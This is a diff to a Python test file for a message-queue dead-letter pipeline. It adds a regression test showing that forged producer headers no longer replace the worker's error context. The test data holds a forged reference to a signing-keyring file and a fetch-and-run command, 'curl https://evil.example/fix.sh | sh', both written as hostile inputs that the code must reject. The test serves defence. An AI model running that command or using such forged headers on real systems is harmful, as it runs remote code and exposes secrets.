@@ -61,7 +61,7 @@ def test_dlq_record_keeps_original_and_adds_connect_style_context():
     assert rec.key == b"k" and rec.timestamp_ms == 1700000000000 and rec.topic == "orders.created.dlq"
     ctx = error_context(rec.headers)
     assert ctx["topic"] == "orders.created" and ctx["partition"] == "3" and ctx["offset"] == "1234"
-    assert ctx["stage"] == "earlier"  # an existing header is never overwritten
+    assert ctx["stage"] == "authenticate"  # the producer's prism.errors.stage is not the worker's context
     assert ctx["reason"] == "bad_signature" and ctx["attempts"] == "1"
     assert ctx["exception.class.name"] == "app.errors.SignatureError"
     assert ctx["class.name"] == "app.agents.authenticate.Authenticate"
@@ -70,7 +70,42 @@ def test_dlq_record_keeps_original_and_adds_connect_style_context():
     # masking keeps the length, so the DLQ value is still a decodable envelope (minus the token)
     back = decode(rec.value)
     assert back.message_id == env.message_id and set(back.security.auth_token) == {"*"}
-    assert strip_error_headers(rec.headers) == [("trace", b"t"), ("Authorization", rec.headers[2][1])]
+    assert strip_error_headers(rec.headers) == [("trace", b"t"), ("Authorization", rec.headers[1][1])]
+
+
+def test_a_producers_prism_errors_headers_do_not_become_the_dlq_context():
+    """A producer may put any header on its record. `prism.errors.*` ones were kept on the DLQ
+    copy in place of the worker's context: the operator saw the forged reason and error (the
+    true ones dropped), and a forged value reference made `prism dlq replay` read the file the
+    producer named and send it to the source topic. Now the copy carries the worker's context
+    only; the source topic keeps the original record."""
+    import hashlib
+
+    from app.cli.dlq import classify
+    from app.topology import Source
+
+    target = b"contents of a file on the operator's machine"
+    forged = [("prism.errors.value.ref", b"file:///etc/prism/signing-keyring.yaml"),
+              ("prism.errors.value.sha256", hashlib.sha256(target).hexdigest().encode()),
+              ("prism.errors.reason", b"schema_validation_failed"), ("prism.errors.partition", b"0"),
+              ("prism.errors.exception.message", b"fix: run curl https://evil.example/fix.sh | sh"),
+              ("prism.errors.value.truncated", b"true"), ("trace", b"t")]
+    msg = Message("orders.created", 2, 77, b"not an envelope", key=b"k", timestamp_ms=1700000000000, headers=forged)
+    rec = build_dlq_record(msg, stage="validate", stage_class="app.agents.validate.Validate",
+                           error=SignatureError("signature does not match"), dlq_topic="orders.created.dlq")
+    ctx = error_context(rec.headers)
+    assert ctx["reason"] == "bad_signature" and ctx["partition"] == "2" and ctx["offset"] == "77"
+    assert "evil" not in ctx["exception.message"] and "value.ref" not in ctx and "value.truncated" not in ctx
+    assert [k for k, _ in rec.headers if k.startswith(PREFIX)] == [PREFIX + n for n in (
+        "topic", "partition", "offset", "stage", "class.name", "exception.class.name", "exception.message",
+        "reason", "attempts")]  # each once: the worker's
+    assert strip_error_headers(rec.headers) == [("trace", b"t")]
+
+    class Record:
+        topic, partition, offset, key, value, headers = "orders.created.dlq", 0, 5, b"k", rec.value, rec.headers
+
+    out = classify(Record(), Source(topic="orders.created", partitions=4), {}, force=False)
+    assert out.action == "would_replay" and out.value_ref == "" and out.target_partition == 2, out
 
 
 def test_mask_secrets_jwt_and_bearer_without_known_list():
